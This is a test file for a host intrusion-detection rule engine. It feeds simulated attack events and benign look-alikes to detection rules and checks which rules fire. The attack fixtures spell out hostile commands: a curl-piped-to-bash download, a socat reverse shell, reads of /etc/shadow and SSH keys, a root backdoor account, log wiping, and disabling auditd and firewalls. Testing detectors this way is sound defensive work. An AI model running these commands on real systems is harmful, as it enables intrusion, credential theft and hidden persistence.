import { describe, expect, it } from 'vitest';
import { Detector } from '../src/detector.js';
import type { GuardEvent } from '../src/event.js';
import { checkRules, parseRules } from '../src/parseRules.js';
import { starterRules } from '../src/starterPack.js';
import { event, proc } from './events.js';

const starter = { text: starterRules, file: 'starter.yaml' };
const nginx = proc({ pid: 100, name: 'nginx', exe: '/usr/sbin/nginx', listening: true, uid: 33 });
const bash = proc({ pid: 500, ppid: 400, name: 'bash', exe: '/usr/bin/bash', uid: 1000 });

/** Attacks: each must raise exactly the named rule. */
const attacks: [string, GuardEvent][] = [
  ['shell-spawned-by-network-service', event({ type: 'exec', proc: proc({ pid: 101, ppid: 100, name: 'sh', exe: '/bin/sh', argv: ['sh', '-c', 'id'] }), ancestors: [nginx] })],
  ['reverse-shell', event({ type: 'exec', proc: proc({ pid: 102, ppid: 90, name: 'bash', stdinNet: true, stdoutNet: true }), ancestors: [proc({ pid: 90, name: 'python3' })] })],
  ['reverse-shell', event({ type: 'exec', proc: proc({ pid: 103, ppid: 91, name: 'sh', parentStdioNet: true }), ancestors: [proc({ pid: 91, name: 'python3' })] })],
  ['reverse-shell', event({ type: 'exec', proc: proc({ pid: 131, ppid: 92, name: 'bash', argv: ['bash', '-li'] }), ancestors: [proc({ pid: 92, name: 'socat', argv: ['socat', 'exec:bash -li,pty,stderr', 'tcp:10.0.0.9:4444'] })] })],
  ['read-shadow-file', event({ type: 'open', proc: proc({ pid: 104, name: 'cat' }), file: { path: '/etc/shadow', flags: 0, write: false } })],
  // named systemd, but not PID 1's own child, or not systemd's binary
  ['read-shadow-file', event({ type: 'open', proc: proc({ pid: 105, ppid: 4242, name: 'systemd', exe: '' }), file: { path: '/etc/shadow', flags: 0, write: false } })],
  ['read-shadow-file', event({ type: 'open', proc: proc({ pid: 106, ppid: 1, name: 'systemd', exe: '/tmp/.x/systemd' }), file: { path: '/etc/shadow', flags: 0, write: false } })],
  ['read-ssh-private-key', event({ type: 'open', proc: proc({ pid: 105, name: 'python3', uid: 1001 }), file: { path: '/home/alice/.ssh/id_ed25519', flags: 0, write: false } })],
  ['ld-preload-hijack', event({ type: 'open', proc: proc({ pid: 106, name: 'curl' }), file: { path: '/etc/ld.so.preload', flags: 0o1101, write: true } })],
  // a memfd run through its descriptor (python's os.execve(fd) / fexecve), by path, and a binary in /dev/shm
  ['fileless-exec', event({ type: 'exec', proc: proc({ pid: 140, ppid: 141, name: '3', exe: '/dev/fd/3', argv: ['kthreadd'] }), ancestors: [proc({ pid: 141, name: 'python3' })] })],
  ['fileless-exec', event({ type: 'exec', proc: proc({ pid: 142, ppid: 141, name: '4', exe: '/proc/self/fd/4', argv: ['x'] }), ancestors: [proc({ pid: 141, name: 'python3' })] })],
  ['fileless-exec', event({ type: 'exec', proc: proc({ pid: 143, ppid: 141, name: '7', exe: '/proc/143/fd/7', argv: ['x'] }), ancestors: [proc({ pid: 141, name: 'perl' })] })],
  ['fileless-exec', event({ type: 'exec', proc: proc({ pid: 144, ppid: 145, name: '.x', exe: '/dev/shm/.x', argv: ['/dev/shm/.x'] }), ancestors: [proc({ pid: 145, name: 'bash' })] })],
  ['system-log-cleared', event({ type: 'open', proc: proc({ pid: 146, name: 'bash' }), file: { path: '/var/log/auth.log', flags: 0o1101, write: true } })],
  ['system-log-cleared', event({ type: 'open', proc: proc({ pid: 147, name: 'python3' }), file: { path: '/var/log/audit/audit.log', flags: 0o1001, write: true } })],
  ['system-log-wiped', event({ type: 'exec', proc: proc({ pid: 148, name: 'shred', exe: '/usr/bin/shred', argv: ['shred', '-u', '/var/log/nginx/access.log'] }) })],
  ['system-log-wiped', event({ type: 'exec', proc: proc({ pid: 149, name: 'rm', exe: '/usr/bin/rm', argv: ['rm', '-f', '/var/log/wtmp', '/var/log/btmp'] }) })],
  ['security-control-disabled', event({ type: 'exec', proc: proc({ pid: 152, name: 'systemctl', exe: '/usr/bin/systemctl', argv: ['systemctl', 'stop', 'auditd'] }) })],
  ['security-control-disabled', event({ type: 'exec', proc: proc({ pid: 153, name: 'systemctl', exe: '/usr/bin/systemctl', argv: ['systemctl', 'mask', '--now', 'ainkad.service'] }) })],
  ['security-control-disabled', event({ type: 'exec', proc: proc({ pid: 154, name: 'iptables', exe: '/usr/sbin/iptables-nft', argv: ['iptables', '-F'] }) })],
  ['security-control-disabled', event({ type: 'exec', proc: proc({ pid: 155, name: 'nft', exe: '/usr/sbin/nft', argv: ['nft', 'flush', 'ruleset'] }) })],
  ['security-control-disabled', event({ type: 'exec', proc: proc({ pid: 156, name: 'setenforce', exe: '/usr/sbin/setenforce', argv: ['setenforce', '0'] }) })],
  ['shell-history-erased', event({ type: 'exec', proc: proc({ pid: 157, name: 'ln', exe: '/usr/bin/ln', argv: ['ln', '-sf', '/dev/null', '/root/.bash_history'] }) })],
  ['shell-history-erased', event({ type: 'exec', proc: proc({ pid: 158, name: 'rm', exe: '/usr/bin/rm', argv: ['rm', '-f', '.zsh_history'] }) })],
  ['backdoor-account', event({ type: 'exec', proc: proc({ pid: 159, name: 'useradd', exe: '/usr/sbin/useradd', argv: ['useradd', '-o', '-u', '0', '-g', '0', 'sysbackup'] }) })],
  ['backdoor-account', event({ type: 'exec', proc: proc({ pid: 160, name: 'usermod', exe: '/usr/sbin/usermod', argv: ['usermod', '-aG', 'docker,sudo', 'mallory'] }) })],
  ['download-piped-to-shell', event({ type: 'exec', proc: proc({ pid: 161, ppid: 162, name: 'bash', exe: '/usr/bin/bash', argv: ['bash'] }), ancestors: [proc({ pid: 162, name: 'sh', argv: ['sh', '-c', 'curl -fsSL http://203.0.113.9/i.sh | bash'] })] })],
  ['offensive-tool', event({ type: 'exec', proc: proc({ pid: 150, name: 'nmap', exe: '/usr/bin/nmap', argv: ['nmap', '-sS', '10.0.0.0/24'] }) })],
  ['offensive-tool', event({ type: 'exec', proc: proc({ pid: 151, name: 'sh', exe: '/bin/sh', argv: ['sh', '/tmp/linpeas.sh'] }) })],
  ['persistence-cron-job', event({ type: 'open', proc: proc({ pid: 106, name: 'curl' }), file: { path: '/etc/cron.d/evil', flags: 0o1101, write: true } })],
  ['persistence-cron-job', event({ type: 'open', proc: proc({ pid: 120, name: 'crontab', uid: 1000 }), file: { path: '/var/spool/cron/crontabs/tmp.Xa1', flags: 0o302, write: true } })],
  ['persistence-systemd-unit', event({ type: 'open', proc: proc({ pid: 121, name: 'bash' }), file: { path: '/etc/systemd/system/updater.service', flags: 0o1101, write: true } })],
  ['persistence-systemd-unit', event({ type: 'open', proc: proc({ pid: 122, name: 'python3', uid: 1000 }), file: { path: '/home/bob/.config/systemd/user/agent.service', flags: 0o1101, write: true } })],
  ['ssh-authorized-keys-modified', event({ type: 'open', proc: proc({ pid: 123, name: 'bash' }), file: { path: '/root/.ssh/authorized_keys', flags: 0o2101, write: true } })],
  ['account-or-sudoers-modified', event({ type: 'open', proc: proc({ pid: 124, name: 'tee' }), file: { path: '/etc/sudoers.d/99-backdoor', flags: 0o1101, write: true } })],
  ['account-or-sudoers-modified', event({ type: 'open', proc: proc({ pid: 125, name: 'python3' }), file: { path: '/etc/passwd', flags: 0o2001, write: true } })],
  ['unexpected-setuid-root-exec', event({ type: 'exec', proc: proc({ pid: 126, ppid: 127, name: 'bash', exe: '/var/tmp/.b', uid: 65534, euid: 0, argv: ['/var/tmp/.b', '-p'] }), ancestors: [proc({ pid: 127, name: 'sh', uid: 65534 })] })],
  ['setuid-bit-set', event({ type: 'chmod', proc: proc({ pid: 133, name: 'chmod', argv: ['chmod', 'u+s', '/var/tmp/.b'] }), file: { path: '/var/tmp/.b', flags: 0, write: false, mode: 0o104755, isDir: false } })],
  ['exec-without-argv', event({ type: 'exec', proc: proc({ pid: 132, name: 'pkexec', exe: '/usr/bin/pkexec', uid: 1000, euid: 0, argv: [] }) })],
  ['read-sensitive-file', event({ type: 'open', proc: proc({ pid: 128, name: 'cat' }), file: { path: '/etc/sudoers', flags: 0, write: false } })],
  ['read-ssh-private-key', event({ type: 'open', proc: proc({ pid: 129, name: 'tar' }), file: { path: '/root/.ssh/deploy_key', flags: 0, write: false } })],
  ['crypto-miner-command', event({ type: 'exec', proc: proc({ pid: 130, name: 'kworkerd', exe: '/tmp/kworkerd', argv: ['/tmp/kworkerd', '-o', 'stratum+tcp://pool.example:3333', '-u', 'x'] }) })],
  ['write-below-system-dir', event({ type: 'open', proc: proc({ pid: 107, name: 'cp' }), file: { path: '/usr/bin/ls', flags: 1, write: true } })],
  ['ptrace-other-user', event({ type: 'ptrace', proc: bash, target: proc({ pid: 600, name: 'sshd', uid: 0 }) })],
  ['kernel-module-load', event({ type: 'module', proc: proc({ pid: 108, name: 'insmod' }), module: { name: 'rootkit', how: 'finit_module' } })],
  // modprobe run from a shell (the tree of the module-load attack): a user's load, not the kernel's
  ['kernel-module-load', event({ type: 'module', proc: proc({ pid: 111, ppid: process.pid, name: 'modprobe', exe: '/usr/bin/kmod', argv: ['modprobe', 'dummy'] }), ancestors: [proc({ pid: process.pid, name: 'bash' })], module: { name: 'dummy', how: 'loaded' } })],
  ['write-below-system-dir', event({ type: 'open', proc: proc({ pid: 112, name: 'cp' }), file: { path: '/lib/modules/6.1.0-57-amd64/kernel/net/core/diag.ko', flags: 0o1101, write: true } })],
  ['new-listening-port', event({ type: 'listen', proc: proc({ pid: 109, name: 'nc' }), net: { ipVersion: 4, laddr: '0.0.0.0', lport: 31337, raddr: '', rport: 0, portKnown: false } })],
  ['crypto-miner', event({ type: 'cpu', proc: proc({ pid: 110, name: 'xmrig' }), cpu: { ratio: 1.9, sustainedSeconds: 30, remotePorts: [443, 3333] } })],
];

/** Look-alikes of normal activity: none may raise anything. */
const benign: [string, GuardEvent][] = [
  ['sshd starts a login shell', event({ type: 'exec', proc: proc({ pid: 201, ppid: 200, name: 'bash' }), ancestors: [proc({ pid: 200, name: 'sshd', listening: true })] })],
  ['make runs sh', event({ type: 'exec', proc: proc({ pid: 202, ppid: 203, name: 'sh' }), ancestors: [proc({ pid: 203, name: 'make' })] })],
  ['passwd reads shadow', event({ type: 'open', proc: proc({ pid: 204, name: 'passwd' }), file: { path: '/etc/shadow', flags: 2, write: true } })],
  // seen on the benign workload (tools/lab/benign.mjs): an SSH login starts user@0.service, whose PAM stack runs
  // in PID 1's forked child before it execs `systemd --user` (exe unreadable from ainkad's hardened unit)
  ['systemd runs a unit\'s PAM stack', event({ type: 'open', proc: proc({ pid: 817, ppid: 1, name: 'systemd', exe: '', argv: ['/lib/systemd/systemd'] }), file: { path: '/etc/shadow', flags: 0, write: false } })],
  ['systemd runs a unit\'s PAM stack (exe known)', event({ type: 'open', proc: proc({ pid: 818, ppid: 1, name: 'systemd', exe: '/usr/lib/systemd/systemd' }), file: { path: '/etc/shadow', flags: 0, write: false } })],
  ['dpkg maintainer script writes /etc', event({ type: 'open', proc: proc({ pid: 205, name: 'sed' }), ancestors: [proc({ pid: 206, name: 'sh' }), proc({ pid: 207, name: 'dpkg' })], file: { path: '/etc/default/x', flags: 1, write: true } })],
  ['journald opens its journal for writing', event({ type: 'open', proc: proc({ pid: 210, name: 'systemd-journald' }), file: { path: '/var/log/journal/abc/system.journal', flags: 0o102, write: true } })],
  ['logrotate empties a log (copytruncate)', event({ type: 'open', proc: proc({ pid: 211, name: 'logrotate' }), file: { path: '/var/log/syslog', flags: 0o1001, write: true } })],
  ['nginx appends to its access log', event({ type: 'open', proc: nginx, file: { path: '/var/log/nginx/access.log', flags: 0o2101, write: true } })],
  ['an app restarts its own log', event({ type: 'open', proc: proc({ pid: 212, name: 'myapp' }), file: { path: '/var/log/myapp/app.log', flags: 0o1101, write: true } })],
  ['rm of rotated logs of an app', event({ type: 'exec', proc: proc({ pid: 213, name: 'rm', exe: '/usr/bin/rm', argv: ['rm', '/var/log/nginx/access.log.5.gz'] }) })],
  ['runc runs its sealed copy', event({ type: 'exec', proc: proc({ pid: 214, ppid: 215, name: '5', exe: '/proc/self/fd/5', argv: ['runc', 'init'] }), ancestors: [proc({ pid: 215, name: 'runc' })] })],
  ['a program in /tmp is no fileless exec', event({ type: 'exec', proc: proc({ pid: 216, ppid: 145, name: 'configure', exe: '/tmp/build/configure' }), ancestors: [proc({ pid: 145, name: 'bash' })] })],
  ['systemctl restarts nginx', event({ type: 'exec', proc: proc({ pid: 217, name: 'systemctl', exe: '/usr/bin/systemctl', argv: ['systemctl', 'restart', 'nginx'] }) })],
  ['systemctl status of auditd', event({ type: 'exec', proc: proc({ pid: 218, name: 'systemctl', exe: '/usr/bin/systemctl', argv: ['systemctl', 'status', 'auditd'] }) })],
  ['dockerd flushes its own chain', event({ type: 'exec', proc: proc({ pid: 219, ppid: 220, name: 'iptables', exe: '/usr/sbin/iptables-nft', argv: ['iptables', '-t', 'nat', '-F', 'DOCKER'] }), ancestors: [proc({ pid: 220, name: 'dockerd' })] })],
  ['iptables lists its rules', event({ type: 'exec', proc: proc({ pid: 221, name: 'iptables', exe: '/usr/sbin/iptables-nft', argv: ['iptables', '-L', '-n'] }) })],
  ['useradd of a plain user', event({ type: 'exec', proc: proc({ pid: 222, name: 'useradd', exe: '/usr/sbin/useradd', argv: ['useradd', '-m', '-s', '/bin/bash', 'alice'] }) })],
  ['usermod adds a user to docker', event({ type: 'exec', proc: proc({ pid: 223, name: 'usermod', exe: '/usr/sbin/usermod', argv: ['usermod', '-aG', 'docker', 'alice'] }) })],
  ['useradd with uid 1000', event({ type: 'exec', proc: proc({ pid: 224, name: 'useradd', exe: '/usr/sbin/useradd', argv: ['useradd', '-u', '1000', 'bob'] }) })],
  ['rm of a build dir', event({ type: 'exec', proc: proc({ pid: 225, name: 'rm', exe: '/usr/bin/rm', argv: ['rm', '-rf', '/tmp/build'] }) })],
  ['logrotate makes rsyslog reopen its files', event({ type: 'exec', proc: proc({ pid: 226, ppid: 227, name: 'systemctl', exe: '/usr/bin/systemctl', argv: ['systemctl', 'kill', '-s', 'HUP', 'rsyslog.service'] }), ancestors: [proc({ pid: 227, name: 'rsyslog-rotate' }), proc({ pid: 228, name: 'logrotate' })] })],
  ['netfilter-persistent flushes before loading its rules', event({ type: 'exec', proc: proc({ pid: 229, ppid: 230, name: 'iptables', exe: '/usr/sbin/iptables-nft', argv: ['iptables', '-F'] }), ancestors: [proc({ pid: 230, name: '15-ip4tables' }), proc({ pid: 231, name: 'netfilter-persi' })] })],
  ['cloud-init puts the default user into sudo', event({ type: 'exec', proc: proc({ pid: 233, ppid: 234, name: 'useradd', exe: '/usr/sbin/useradd', argv: ['useradd', 'debian', '--groups', 'adm,sudo', '-m'] }), ancestors: [proc({ pid: 234, name: 'cloud-init' })] })],
  ['a logrotate script empties syslog', event({ type: 'open', proc: proc({ pid: 235, ppid: 236, name: 'sh' }), ancestors: [proc({ pid: 236, name: 'logrotate' })], file: { path: '/var/log/syslog', flags: 0o1001, write: true } })],
  ['a shell whose parent downloads to a file', event({ type: 'exec', proc: proc({ pid: 237, ppid: 238, name: 'sh', argv: ['sh', 'install.sh'] }), ancestors: [proc({ pid: 238, name: 'bash', argv: ['bash', '-c', 'curl -o install.sh https://example.org/i.sh && sh install.sh'] })] })],
  ['ssh reads its key', event({ type: 'open', proc: proc({ pid: 208, name: 'ssh', uid: 1000 }), file: { path: '/home/alice/.ssh/id_ed25519', flags: 0, write: false } })],
  ['cat of a public key', event({ type: 'open', proc: proc({ pid: 209, name: 'cat' }), file: { path: '/root/.ssh/id_rsa.pub', flags: 0, write: false } })],
  ['gdb on own process', event({ type: 'ptrace', proc: bash, target: proc({ pid: 601, name: 'app', uid: 1000 }) })],
  ['listen on a known port', event({ type: 'listen', proc: nginx, net: { ipVersion: 4, laddr: '0.0.0.0', lport: 80, raddr: '', rport: 0, portKnown: true } })],
  ['listen on loopback', event({ type: 'listen', proc: proc({ pid: 210, name: 'node' }), net: { ipVersion: 4, laddr: '127.0.0.1', lport: 45678, raddr: '', rport: 0, portKnown: false } })],
  ['sudo runs as root for a user', event({ type: 'exec', proc: proc({ pid: 212, ppid: 201, name: 'sudo', exe: '/usr/bin/sudo', uid: 1000, euid: 0 }) })],
  ['ssh-keygen writes a new key', event({ type: 'open', proc: proc({ pid: 213, name: 'ssh-keygen' }), file: { path: '/root/.ssh/id_ed25519', flags: 0o1101, write: true } })],
  ['ssh reads known_hosts', event({ type: 'open', proc: proc({ pid: 214, name: 'python3' }), file: { path: '/root/.ssh/known_hosts', flags: 0, write: false } })],
  ['useradd writes /etc/passwd', event({ type: 'open', proc: proc({ pid: 215, name: 'useradd' }), file: { path: '/etc/passwd-', flags: 0o1101, write: true } })],
  ['apt installs a unit', event({ type: 'open', proc: proc({ pid: 216, name: 'dpkg' }), file: { path: '/lib/systemd/system/nginx.service.dpkg-new', flags: 0o1101, write: true } })],
  ['bash writes its history', event({ type: 'open', proc: proc({ pid: 217, name: 'bash' }), file: { path: '/root/.bash_history', flags: 0o2101, write: true } })],
  ['node service runs a shell while not listening', event({ type: 'exec', proc: proc({ pid: 218, ppid: 219, name: 'sh' }), ancestors: [proc({ pid: 219, name: 'node', exe: '/usr/bin/node' })] })],
  ['a set-gid shared directory', event({ type: 'chmod', proc: proc({ pid: 220, name: 'chmod' }), file: { path: '/srv/shared', flags: 0, write: false, mode: 0o2775, isDir: true } })],
  ['dpkg sets a set-uid bit', event({ type: 'chmod', proc: proc({ pid: 221, name: 'dpkg' }), file: { path: '/usr/bin/sudo', flags: 0, write: false, mode: 0o4755, isDir: false } })],
  // seen in the systemd guest (benignWorkload.system.test): \`ss\` makes the kernel autoload inet_diag/tcp_diag,
  // request_module() runs modprobe as a usermode helper: from a kworker (UMH_WAIT_PROC) or from kthreadd
  ['the kernel autoloads a module for ss', event({ type: 'module', proc: proc({ pid: 990, ppid: 2, name: 'modprobe', exe: '/usr/bin/kmod', argv: ['/sbin/modprobe', '-q', '--', 'net-pf-16-proto-4-type-2'] }), ancestors: [proc({ pid: 2, ppid: 0, name: 'kthreadd', exe: '' })], module: { name: 'inet_diag', how: 'loaded' } })],
  ['dpkg installs a kernel', event({ type: 'open', proc: proc({ pid: 222, name: 'dpkg' }), file: { path: '/lib/modules/6.12.9+bpo-amd64/kernel/fs/xfs/xfs.ko.xz', flags: 0o1101, write: true } })],
  ['busy compiler with an https fetch', event({ type: 'cpu', proc: proc({ pid: 211, name: 'cc1' }), cpu: { ratio: 1, sustainedSeconds: 60, remotePorts: [443] } })],
];

describe('starter rules', () => {
  const rules = parseRules([starter]);

  it.each(attacks)('%s fires on its attack', (name, e) => {
    expect(new Detector(rules).evaluate(e).map((a) => a.rule)).toEqual([name]);
  });

  it.each(benign)('stays quiet: %s', (_, e) => {
    expect(new Detector(rules).evaluate(e)).toEqual([]);
  });

  it('alerts carry the process tree, the rendered output and the wanted response', () => {
    const e = event({ type: 'exec', proc: proc({ pid: 102, ppid: 90, name: 'bash', stdinNet: true, argv: ['bash', '-i'] }), ancestors: [proc({ pid: 90, ppid: 1, name: 'python3' }), proc({ pid: 1, ppid: 0, name: 'systemd' })] });
    const [a] = new Detector(rules).evaluate(e);
    expect(a!.tree).toBe('systemd(1) → python3(90) → bash(102)');
    expect(a!.summary).toBe('reverse shell /usr/bin/bash (bash -i) with stdio on a network socket, parent python3 (python3)');
    expect(a!.wants).toEqual({ action: 'kill', mode: 'advise' });
    expect(a!.processes.map((p) => p.pid)).toEqual([1, 90, 102]);
  });

  it('applies the cooldown per rule, executable and parent', () => {
    const d = new Detector(rules);
    const e = attacks.find(([r]) => r === 'read-shadow-file')![1];
    expect(d.evaluate(e)).toHaveLength(1);
    expect(d.evaluate({ ...e, time: e.time + 1000 })).toHaveLength(0);
    expect(d.evaluate({ ...e, time: e.time + 61_000 })).toHaveLength(1);
    expect(d.stats.cooledDown).toBe(1);
    expect(d.evaluate({ ...e, time: e.time + 62_000, proc: { ...e.proc, ppid: 999 } })).toHaveLength(1);
  });
});

describe('reverse shells: one alert per socket session', () => {
  const rules = parseRules([starter]);
  // outer bash (not on the network) → bash -i with stdio on a socket → the shells the attacker starts inside it
  const outer = proc({ pid: 700, ppid: 1, name: 'bash' });
  const rs = proc({ pid: 701, ppid: 700, name: 'bash', stdinNet: true, stdoutNet: true, argv: ['bash', '-i'] });
  const inner = proc({ pid: 702, ppid: 701, name: 'sh', stdinNet: true, stdoutNet: true });
  const viaPty = proc({ pid: 704, ppid: 703, name: 'bash', parentStdioNet: true });
  const python = proc({ pid: 703, ppid: 702, name: 'python3', stdinNet: true, stdoutNet: true });

  it('a nested shell in the same session raises nothing new; a second session does', () => {
    const d = new Detector(rules);
    expect(d.evaluate(event({ type: 'exec', proc: rs, ancestors: [outer] })).map((a) => a.rule)).toEqual(['reverse-shell']);
    expect(d.evaluate(event({ type: 'exec', proc: inner, ancestors: [rs, outer], time: 1_005_000 }))).toEqual([]);
    expect(d.evaluate(event({ type: 'exec', proc: viaPty, ancestors: [python, inner, rs, outer], time: 1_010_000 }))).toEqual([]);
    const other = proc({ pid: 801, ppid: 700, name: 'bash', stdinNet: true });
    expect(d.evaluate(event({ type: 'exec', proc: other, ancestors: [outer], time: 1_011_000 }))).toHaveLength(1);
  });

  it('a bad cooldownBy field is an error with a suggestion', () => {
    const r = checkRules([{ text: 'apiVersion: ainka.dev/v1\nkind: DetectionRules\nname: t\nrules:\n  - name: r\n    when: event == exec\n    cooldownBy: [proc.net_sesion]\n', file: 'c.yaml' }]);
    expect(r.ruleSet).toBeUndefined();
    expect(r.issues[0]).toMatchObject({ file: 'c.yaml', path: 'rules[0].cooldownBy[0]', message: "'proc.net_sesion' is not a field; did you mean 'proc.net_session'?" });
  });
});

describe('exceptions and list additions from another document', () => {
  const local = `apiVersion: ainka.dev/v1
kind: DetectionRules
name: local
appendLists:
  shadow_readers: [backup-agent]
exceptions:
  - rule: write-below-system-dir
    name: config-management
    when: proc.name == puppet and file.path startswith /etc/
    reason: puppet owns /etc here
`;
  const rules = parseRules([starter, { text: local, file: 'local.yaml' }]);

  it('an exception drops matching events without rewriting the rule and is counted', () => {
    const d = new Detector(rules);
    const puppet = event({ type: 'open', proc: proc({ pid: 300, name: 'puppet' }), file: { path: '/etc/hosts', flags: 1, write: true } });
    expect(d.evaluate(puppet)).toEqual([]);
    expect(d.stats.excepted.get('config-management')).toBe(1);
    // the rule still holds for everyone else, and for puppet outside the exception
    expect(d.evaluate({ ...puppet, proc: proc({ pid: 301, name: 'vi' }) })).toHaveLength(1);
    expect(d.evaluate({ ...puppet, file: { path: '/usr/bin/ls', flags: 1, write: true } })).toHaveLength(1);
  });

  it('appendLists extends a list of the starter pack', () => {
    expect(rules.lists.get('shadow_readers')).toContain('backup-agent');
    const e = event({ type: 'open', proc: proc({ pid: 302, name: 'backup-agent' }), file: { path: '/etc/shadow', flags: 0, write: false } });
    expect(new Detector(rules).evaluate(e)).toEqual([]);
    expect(new Detector(parseRules([starter])).evaluate(e)).toHaveLength(1);
  });
});

describe('the language', () => {
  const doc = (rules: string, extra = ''): string => `apiVersion: ainka.dev/v1\nkind: DetectionRules\nname: t\n${extra}rules:\n${rules}`;
  const one = (when: string, extra = ''): ReturnType<typeof checkRules> => checkRules([{ text: doc(`  - name: r\n    when: "${when}"\n`, extra), file: 'r.yaml' }]);
  const matches = (when: string, e: GuardEvent, extra = ''): boolean => {
    const r = one(when, extra);
    if (!r.ruleSet) throw new Error(r.issues.map((i) => i.message).join('; '));
    return new Detector(r.ruleSet).evaluate(e).length > 0;
  };
  const sh = event({ type: 'exec', proc: proc({ pid: 5, name: 'sh', exe: '/bin/sh', argv: ['sh', '-c', 'curl x | sh'] }), ancestors: [proc({ pid: 4, name: 'nginx' })] });

  it('evaluates operators, lists, macros, booleans and list-valued fields', () => {
    expect(matches('event == exec and proc.pid > 4 and proc.pid <= 5', sh)).toBe(true);
    expect(matches('proc.cmdline contains curl and proc.exe glob /bin/*', sh)).toBe(true);
    expect(matches('proc.exe glob /usr/**', sh)).toBe(false);
    expect(matches('proc.anames in (nginx) and not proc.stdin_net', sh)).toBe(true);
    expect(matches('proc.argv != curl', sh)).toBe(true);
    expect(matches('proc.argv == -c', sh)).toBe(true);
    expect(matches('shelly', sh, 'macros:\n  shelly: proc.name in shells\nlists:\n  shells: [sh]\n')).toBe(true);
    expect(matches('file.path startswith /etc/', sh)).toBe(false); // a missing field never matches
    expect(matches("proc.name == 'sh' or (proc.pid == 1 and not proc.pid == 2)", sh)).toBe(true);
  });

  it('reports a misspelt field with file, line, column and a suggestion', () => {
    const r = one('event == exec and proc.nmae == sh');
    expect(r.ruleSet).toBeUndefined();
    expect(r.issues[0]).toMatchObject({ file: 'r.yaml', line: 6, column: 30, path: 'rules[0].when', message: "unknown field 'proc.nmae'; did you mean 'proc.name'?" });
  });

  it('reports syntax, type and reference errors with the fix', () => {
    expect(one('proc.pid > abc').issues[0]!.message).toMatch(/'abc' is not a number but proc.pid is numeric/);
    expect(one('proc.name startswith').issues[0]!.message).toMatch(/ends where a value is expected/);
    expect(one('proc.pid contains 3').issues[0]!.message).toMatch(/contains works on text but proc.pid is numeric/);
    expect(one('event == exce').issues[0]!.message).toBe("event type 'exce' does not exist; did you mean 'exec'?");
    expect(one('(proc.pid == 1').issues[0]!.message).toMatch(/expected '\)'/);
    expect(one('a', 'macros:\n  a: b\n  b: a\n').issues[0]!.message).toMatch(/refers back to itself/);
    expect(one('proc.listening == yes').issues[0]!.message).toMatch(/write proc.listening == true or == false/);
    const bad = checkRules([{ text: doc('  - name: r\n    when: event == exec\n    output: "{proc.nam}"\n    severity: urgent\n'), file: 'o.yaml' }]);
    expect(bad.issues.map((i) => `${i.line}:${i.message}`)).toEqual(["8:the string 'urgent' is not 'critical' or 'warning' or 'info'; use one of those"]);
    const out = checkRules([{ text: doc('  - name: r\n    when: event == exec\n    output: "{proc.nam}"\n'), file: 'o.yaml' }]);
    expect(out.issues[0]!.message).toBe('{proc.nam} in output is not a field; did you mean {proc.name}?');
    const exc = checkRules([starter, { text: 'apiVersion: ainka.dev/v1\nkind: DetectionRules\nname: x\nexceptions:\n  - rule: reverse-shel\n    when: proc.pid == 1\n', file: 'x.yaml' }]);
    expect(exc.issues[0]).toMatchObject({ file: 'x.yaml', line: 5, message: "no rule 'reverse-shel' to except; did you mean 'reverse-shell'?" });
    const yaml = checkRules([{ text: 'apiVersion: ainka.dev/v1\nkind: DetectionRules\nname: [x\n', file: 'y.yaml' }]);
    expect(yaml.issues[0]).toMatchObject({ kind: 'syntax', file: 'y.yaml' });
    const key = checkRules([{ text: doc('  - name: r\n    wen: event == exec\n'), file: 'k.yaml' }]);
    expect(key.issues.map((i) => i.message)).toContain("unknown key 'wen'; did you mean 'when'?");
  });

  it('throws ERR_AINKA_GUARD_INVALID_RULES from parseRules', () => {
    expect(() => parseRules([{ text: doc('  - name: r\n    when: proc.nope == 1\n') }])).toThrow(expect.objectContaining({ code: 'ERR_AINKA_GUARD_INVALID_RULES' }));
  });
});
